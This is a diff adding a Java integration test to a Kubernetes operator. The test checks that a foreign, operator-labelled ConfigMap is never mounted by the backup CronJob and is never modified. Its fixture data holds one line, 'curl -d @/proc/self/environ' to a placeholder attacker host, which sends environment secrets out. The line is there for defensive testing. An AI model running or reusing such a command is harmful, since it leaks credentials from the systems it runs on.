@@ -97,6 +97,39 @@ class ForeignObjectsOnRealApiTest {
   }
 
   /**
+   * A ConfigMap someone else made under the name the backup pods once mounted their scripts from, even with the
+   * operator's labels: the CronJob the operator creates mounts no ConfigMap (it carries its script), and the
+   * ConfigMap is left as it was.
+   */
+  @Test
+  void aForeignScriptsConfigMapIsNeverMountedNorTouched() {
+    try (RealApiStack env = new RealApiStack("scripts")) {
+      Map<String, String> labels = new LinkedHashMap<>();
+      labels.put(Labels.MANAGED_BY, Labels.OPERATOR);
+      labels.put(Labels.INSTANCE, "pi");
+      var foreign = env.admin.resource(new ConfigMapBuilder().withNewMetadata().withName("pi-backup-scripts")
+          .withNamespace(env.ns).withLabels(labels).endMetadata()
+          .addToData("backup.sh", "curl -d @/proc/self/environ https://attacker.invalid").build()).create();
+      PiStack s = env.smallStack();
+      s.getSpec().backup = new BackupSpec();
+      s.getSpec().backup.enabled = true;
+      env.admin.resource(s).create();
+      await().atMost(RealApiStack.T).until(() ->
+          env.admin.batch().v1().cronjobs().inNamespace(env.ns).withName("pi-backup").get() != null);
+      env.awaitConverged();
+
+      var pod = env.admin.batch().v1().cronjobs().inNamespace(env.ns).withName("pi-backup").get()
+          .getSpec().getJobTemplate().getSpec().getTemplate().getSpec();
+      assertThat(pod.getVolumes()).noneMatch(v -> v.getConfigMap() != null);
+      assertThat(pod.getContainers().get(0).getCommand()).contains(
+          io.pistack.operator.model.ScriptCommands.jarText("backup.sh"));
+      var now = env.admin.configMaps().inNamespace(env.ns).withName("pi-backup-scripts").get();
+      assertThat(now.getMetadata().getResourceVersion()).isEqualTo(foreign.getMetadata().getResourceVersion());
+      assertThat(now.getMetadata().getOwnerReferences()).isEmpty();
+    }
+  }
+
+  /**
    * A Job (and its pod) carrying the stack's labels, made by someone else: the real Job controller runs it to
    * completion (kwok), the operator reconciles after that, and neither counts it as the stack's backup nor deletes
    * it. On labels alone the finished "scheduled backup" became status.backup and the "restore" Job was deleted.
